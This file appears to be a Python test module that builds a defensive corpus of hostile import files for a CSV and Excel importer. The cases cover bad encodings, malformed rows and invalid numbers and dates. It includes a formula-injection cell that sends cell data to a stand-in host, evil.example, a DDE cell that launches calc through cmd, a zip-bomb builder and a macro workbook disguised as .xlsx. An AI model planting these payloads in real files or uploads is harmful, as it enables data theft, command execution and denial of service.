"""The hostile-imports corpus: files built for one import kind, each with what must happen to it.

`corpus(sample)` builds every case for a kind described by a `KindSample` (its columns, a
valid row, which fields are text, money and a date). A case is refused (its first error
matches a pattern that names the line, and the field where there is one) or accepted on
purpose (the stored row has the given values). Large files are built when asked for, never
committed; `bench/hostile_imports.py` adds the 50 MB and 1,000,000-row files.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal

from tests.imports.files import xlsx

# A whole-file problem names no line: these are the only messages allowed to.
WHOLE_FILE = re.compile(
    r"^(The file is empty\.|The file has no rows to import\.|The file is UTF-16 .*"
    r"|The file is not an Excel workbook \(\.xlsx\)\.|The workbook .*)$"
)
# Every other problem: "line N: ..." or "line N, field: ..." ("row N" for spreadsheets).
NAMES_LINE = re.compile(r"^(line|row) (?P<line>\d+)(, (?P<field>[a-z_]+))?: .+$")


@dataclass(frozen=True)
class KindSample:
    """What the corpus needs to know of an import kind."""

    kind: str
    columns: tuple[str, ...]
    good: dict[str, str]
    text: str  # a free-text field (names, ids)
    money: str
    date: str
    key: str = "external_id"

    def row(self, n: int = 1, **overrides: str) -> dict[str, str]:
        return {**self.good, self.key: f"{self.good[self.key]}-{n}", **overrides}


@dataclass(frozen=True)
class Case:
    """One file of the corpus and what must happen to it."""

    name: str
    build: Callable[[KindSample], bytes]
    # Refused: the first error matches this (formatted with the sample's field names).
    error: str = ""
    # Accepted: the first stored row's {field: value} (formatted keys are sample attributes).
    stored: dict[str, object] = field(default_factory=dict)
    rows: int = 1  # rows an accepted file creates
    profile: dict | None = None  # an ImportProfile spec the file is imported with
    filename: str = "data.csv"
    big: bool = False  # built at test time, slower: run through one door only

    @property
    def accepted(self) -> bool:
        return not self.error

    def error_pattern(self, sample: KindSample) -> re.Pattern[str]:
        return re.compile(self.error.format(text=sample.text, money=sample.money, date=sample.date))


def table(
    sample: KindSample,
    rows: list[dict[str, str]],
    *,
    delimiter: str = ",",
    newline: str = "\n",
    columns: tuple[str, ...] | None = None,
) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    columns = columns or sample.columns
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return out.getvalue()


def good(sample: KindSample, **overrides: str) -> str:
    return table(sample, [sample.row(1, **overrides)])


def with_cell(
    field_attr: str, value: str, encoding: str = "utf-8", **kwargs
) -> Callable[[KindSample], bytes]:
    """A one-row file whose `field_attr` field (text, money or date) holds `value`."""

    def build(sample: KindSample) -> bytes:
        return table(sample, [sample.row(1, **{getattr(sample, field_attr): value})], **kwargs).encode(
            encoding
        )

    return build


def two_rows_second(field_attr: str, value: str, **kwargs) -> Callable[[KindSample], bytes]:
    """A valid row on line 2, then `value` in the field on line 3."""

    def build(sample: KindSample) -> bytes:
        rows = [sample.row(1), sample.row(2, **{getattr(sample, field_attr): value})]
        return table(sample, rows, **kwargs).encode()

    return build


def quoted_newline_then_bad(sample: KindSample) -> bytes:
    """Line 2 holds a text with two line breaks (lines 2-4); the bad money is on line 5."""
    rows = [sample.row(1, **{sample.text: "A\nmulti\nline"}), sample.row(2, **{sample.money: "ten"})]
    return table(sample, rows).encode()


def unbalanced_quote(sample: KindSample) -> bytes:
    text = good(sample)
    header, body = text.split("\n", 1)
    return f'{header}\n"{body}{body}'.encode()


def overlong_row(sample: KindSample) -> bytes:
    text = good(sample).rstrip("\n")
    return (text + ",surplus\n").encode()


def short_row(sample: KindSample) -> bytes:
    header = ",".join(sample.columns)
    return f"{header}\n{sample.good[sample.key]}-1\n".encode()


def missing_column(sample: KindSample) -> bytes:
    columns = tuple(c for c in sample.columns if c != sample.money)
    return table(sample, [sample.row(1)], columns=columns).encode()


def wide(sample: KindSample, extra: int = 10_000, duplicate: bool = False) -> bytes:
    names = [f"extra {n}" for n in range(extra)]
    if duplicate:
        names[-1] = "extra 0"
    row = sample.row(1)
    header = list(sample.columns) + names
    values = [row.get(c, "") for c in sample.columns] + ["x"] * extra
    return (",".join(header) + "\n" + ",".join(values) + "\n").encode()


def many_rows(sample: KindSample, count: int, bad_last: str = "") -> bytes:
    """`count` valid rows; with `bad_last`, the last row's money holds that text."""
    rows = [sample.row(n) for n in range(1, count + 1)]
    if bad_last:
        rows[-1] = {**rows[-1], sample.money: bad_last}
    return table(sample, rows).encode()


def header_only(sample: KindSample) -> bytes:
    return (",".join(sample.columns) + "\n").encode()


def sheet(sample: KindSample, rows: list[list[object]] | None = None) -> bytes:
    row = sample.row(1)
    body = rows if rows is not None else [[row.get(c, "") for c in sample.columns]]
    return xlsx({"Data": [list(sample.columns), *body]})


def xlsx_with_date_cells(sample: KindSample) -> bytes:
    row = sample.row(1)
    cells: list[object] = [row.get(c, "") for c in sample.columns]
    cells[sample.columns.index(sample.date)] = dt.datetime(2026, 1, 10)
    cells[sample.columns.index(sample.money)] = 1234.5
    return sheet(sample, [cells])


def xlsm_renamed(sample: KindSample) -> bytes:
    """A macro-enabled workbook (vbaProject.bin, the macro content type) named .xlsx."""
    source = zipfile.ZipFile(io.BytesIO(sheet(sample)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            target.writestr(item, data)
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    return out.getvalue()


def zip_bomb(sample: KindSample, megabytes: int = 2048) -> bytes:
    """A valid workbook whose sheet inflates to `megabytes` MB (about 2 MB compressed per GB)."""
    source = zipfile.ZipFile(io.BytesIO(sheet(sample)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, source.read(item.filename))
                continue
            xml = source.read(item.filename)
            head, tail = xml.split(b"</sheetData>")
            with target.open(item.filename, "w", force_zip64=True) as handle:
                handle.write(head)
                # One row repeated: a parser that reads it all holds gigabytes of cells.
                filler = b'<row r="2"><c t="inlineStr"><is><t>' + b"A" * 1000 + b"</t></is></c></row>"
                chunk = filler * 1024
                for _ in range(megabytes):
                    handle.write(chunk)
                handle.write(b"</sheetData>" + tail)
    return out.getvalue()


def png(sample: KindSample) -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4


def _b(text: str) -> Callable[[KindSample], bytes]:
    return lambda sample: text.encode()


def encoded(encoding: str, **overrides_by_attr: str) -> Callable[[KindSample], bytes]:
    def build(sample: KindSample) -> bytes:
        values = {getattr(sample, attr): value for attr, value in overrides_by_attr.items()}
        return good(sample, **values).encode(encoding)

    return build


def semicolons_german(sample: KindSample) -> bytes:
    return table(sample, [sample.row(1, **{sample.money: "1.234,56"})], delimiter=";").encode()


GERMAN = {"delimiter": ";", "number": {"decimal": ",", "thousands": "."}}
LINE2 = r"^line 2: "
NOT_UTF8 = r"^line {line}: the file is not utf-8 text \(byte 0x[0-9a-f]{{2}} at offset \d+\)"
CAFE = "Café – €5"


def corpus() -> list[Case]:
    """Every case; patterns use {text}, {money} and {date} for the kind's field names."""
    return [
        # Encodings
        Case("utf8", encoded("utf-8", text=CAFE), stored={"text": CAFE}),
        Case(
            "utf8_bom", lambda s: codecs.BOM_UTF8 + good(s, **{s.text: CAFE}).encode(), stored={"text": CAFE}
        ),
        Case("utf16_le", encoded("utf-16-le", text=CAFE), error=NOT_UTF8.replace("{line}", "2")),
        Case("utf16_bom", encoded("utf-16", text=CAFE), error=r"^The file is UTF-16 "),
        Case(
            "utf16_profile",
            encoded("utf-16", text=CAFE),
            profile={"encoding": "utf-16"},
            stored={"text": CAFE},
        ),
        Case("cp1252", encoded("cp1252", text=CAFE), error=NOT_UTF8.replace("{line}", "2")),
        Case(
            "cp1252_profile",
            encoded("cp1252", text=CAFE),
            profile={"encoding": "cp1252"},
            stored={"text": CAFE},
        ),
        Case(
            "invalid_bytes_line_3",
            lambda s: (
                good(s).encode()
                + b"\n"
                + table(s, [s.row(2)]).split("\n", 1)[1].encode()[:-3]
                + b"\xff\xfe\n"
            ),
            error=NOT_UTF8.replace("{line}", "4"),
        ),
        Case(
            "truncated_utf8",
            lambda s: good(s, **{s.text: "Caf\u00e9"}).encode()[:-1] + b"\xc3",
            error=NOT_UTF8.replace("{line}", "2"),
        ),
        Case(
            "nul_byte", encoded("utf-8", text="Wid\x00gets"), error=r"^line 2: the file contains a NUL byte"
        ),
        Case(
            "control_chars_cleaned",
            encoded("utf-8", text="Bell\x07 and\x1b escape"),
            stored={"text": "Bell and escape"},
        ),
        # Delimiters and line ends
        Case(
            "semicolons",
            lambda s: good(s).replace(",", ";").encode(),
            error=r"^line 1: the file looks ;-separated",
        ),
        Case("semicolons_profile", semicolons_german, profile=GERMAN, stored={"money": Decimal("1234.56")}),
        Case(
            "tabs",
            lambda s: good(s).replace(",", "\t").encode(),
            error=r"^line 1: the file looks tab-separated",
        ),
        Case(
            "tabs_profile",
            lambda s: good(s).replace(",", "\t").encode(),
            profile={"delimiter": "\t"},
            stored={"money": Decimal("12500.50")},
        ),
        Case(
            "cr_only",
            lambda s: table(s, [s.row(1), s.row(2)], newline="\r").encode(),
            rows=2,
            stored={"money": Decimal("12500.50")},
        ),
        Case(
            "crlf",
            lambda s: table(s, [s.row(1), s.row(2)], newline="\r\n").encode(),
            rows=2,
            stored={"money": Decimal("12500.50")},
        ),
        Case(
            "cr_only_bad_line_3",
            lambda s: two_rows_second("money", "ten", newline="\r")(s),
            error=r"^line 3, {money}: ",
        ),
        Case("quoted_newline_bad_line_5", quoted_newline_then_bad, error=r"^line 5, {money}: "),
        Case("unbalanced_quote", unbalanced_quote, error=r"^line 2: a quoted value is never closed"),
        Case(
            "overlong_row", overlong_row, error=r"^line 2: the row has \d+ values, the header has \d+ columns"
        ),
        Case("short_row", short_row, error=r"^line 2, [a-z_]+: (is required|give an account_external_id)"),
        Case("missing_column", missing_column, error=r"^line 1: missing column\(s\): {money}$"),
        # Numbers
        Case(
            "german_number",
            with_cell("money", "1.234,56"),
            error=r"^line 2, {money}: '1\.234,56' is not a number",
        ),
        Case(
            "german_number_profile",
            lambda s: table(s, [s.row(1, **{s.money: "1.234,56"})], delimiter=";").encode(),
            profile=GERMAN,
            stored={"money": Decimal("1234.56")},
        ),
        Case("nan", with_cell("money", "NaN"), error=r"^line 2, {money}: 'NaN' is not a number"),
        Case(
            "infinity", with_cell("money", "Infinity"), error=r"^line 2, {money}: 'Infinity' is not a number"
        ),
        Case("minus_infinity", with_cell("money", "-inf"), error=r"^line 2, {money}: "),
        Case(
            "exponent_overflow",
            with_cell("money", "1e309"),
            error=r"^line 2, {money}: '1e309' is not a number",
        ),
        Case(
            "ten_to_the_20",
            with_cell("money", "100000000000000000000"),
            error=r"^line 2, {money}: is too large",
        ),
        Case(
            "many_decimals",
            with_cell("money", "1.005"),
            error=r"^line 2, {money}: '1\.005' has more than 2 decimal places",
        ),
        Case(
            "formula_in_money", with_cell("money", "=1+1"), error=r"^line 2, {money}: '=1\+1' is not a number"
        ),
        # Dates
        Case(
            "february_30",
            with_cell("date", "2024-02-30"),
            error=r"^line 2, {date}: '2024-02-30' is not a date",
        ),
        Case("excel_serial", with_cell("date", "45658"), error=r"^line 2, {date}: '45658' is not a date"),
        Case(
            "excel_serial_profile",
            with_cell("date", "45658"),
            profile={"excel_serial_dates": True},
            stored={"date": dt.date(2025, 1, 1)},
        ),
        Case(
            "excel_serial_out_of_range",
            with_cell("date", "9999999"),
            profile={"excel_serial_dates": True},
            error=r"^line 2, {date}: 9999999\.0 is not an Excel date",
        ),
        Case("year_zero", with_cell("date", "0000-01-01"), error=r"^line 2, {date}: "),
        # Text
        Case(
            "formula_text",
            with_cell("text", '=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
            stored={"text": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'},
        ),
        Case("dde_text", with_cell("text", "=cmd|' /C calc'!A0"), stored={"text": "=cmd|' /C calc'!A0"}),
        Case(
            "cell_10000_chars",
            with_cell("text", "x" * 10_000),
            error=r"^line 2, {text}: is longer than \d+ characters",
        ),
        Case(
            "cell_40000_chars",
            with_cell("text", "x" * 40_000),
            error=r"^line 2: a value is longer than 32768 characters",
        ),
        Case("columns_10000", wide, stored={"money": Decimal("12500.50")}),
        Case(
            "columns_10000_duplicate",
            lambda s: wide(s, duplicate=True),
            error=r"^line 1: the column 'extra 0' appears twice",
        ),
        Case(
            "repeated_key",
            lambda s: table(s, [s.row(1), s.row(1)]).encode(),
            error=r"^line 3, external_id: .* already appears on line 2",
        ),
        # Not CSV at all, or nothing in it
        Case("empty", _b(""), error=r"^The file is empty\.$"),
        Case("bom_only", lambda s: codecs.BOM_UTF8, error=r"^The file is empty\.$"),
        Case("blank_lines", _b("\n\n  \n"), error=r"^line 1: missing column"),
        Case("header_only", header_only, error=r"^The file has no rows to import\.$"),
        Case(
            "header_and_blank_lines",
            lambda s: header_only(s) + b"\n,,,\n\n",
            error=r"^The file has no rows to import\.$",
        ),
        Case("png_as_csv", png, error=NOT_UTF8.replace("{line}", "1")),
        # A workbook's zip headers hold the time it was written: a 0x0A byte among them moves
        # the first undecodable byte to line 2 at some times of day.
        Case("xlsx_as_csv", sheet, error=NOT_UTF8.replace("{line}", "[12]")),
        # Workbooks
        Case(
            "xlsx",
            sheet,
            profile={"format": "xlsx"},
            filename="data.xlsx",
            stored={"money": Decimal("12500.50")},
        ),
        Case(
            "xlsx_typed_cells",
            xlsx_with_date_cells,
            profile={"format": "xlsx"},
            filename="data.xlsx",
            stored={"money": Decimal("1234.50"), "date": dt.date(2026, 1, 10)},
        ),
        Case(
            "csv_as_xlsx",
            lambda s: good(s).encode(),
            profile={"format": "xlsx"},
            filename="data.xlsx",
            error=r"^The file is not an Excel workbook \(\.xlsx\)\.$",
        ),
        Case(
            "png_as_xlsx",
            png,
            profile={"format": "xlsx"},
            filename="data.xlsx",
            error=r"^The file is not an Excel workbook \(\.xlsx\)\.$",
        ),
        Case(
            "xlsm_renamed",
            xlsm_renamed,
            profile={"format": "xlsx"},
            filename="data.xlsx",
            error=r"^The workbook contains macros",
        ),
        Case(
            "xlsx_zip_bomb",
            lambda s: zip_bomb(s, megabytes=120),
            profile={"format": "xlsx"},
            filename="data.xlsx",
            error=r"^The workbook unpacks to more than",
            big=True,
        ),
        # Many rows: the one bad row is the last, nothing of the others is written
        Case(
            "rows_5000_last_bad",
            lambda s: many_rows(s, 5_000, bad_last="ten"),
            error=r"^line 5001, {money}: ",
            big=True,
        ),
    ]
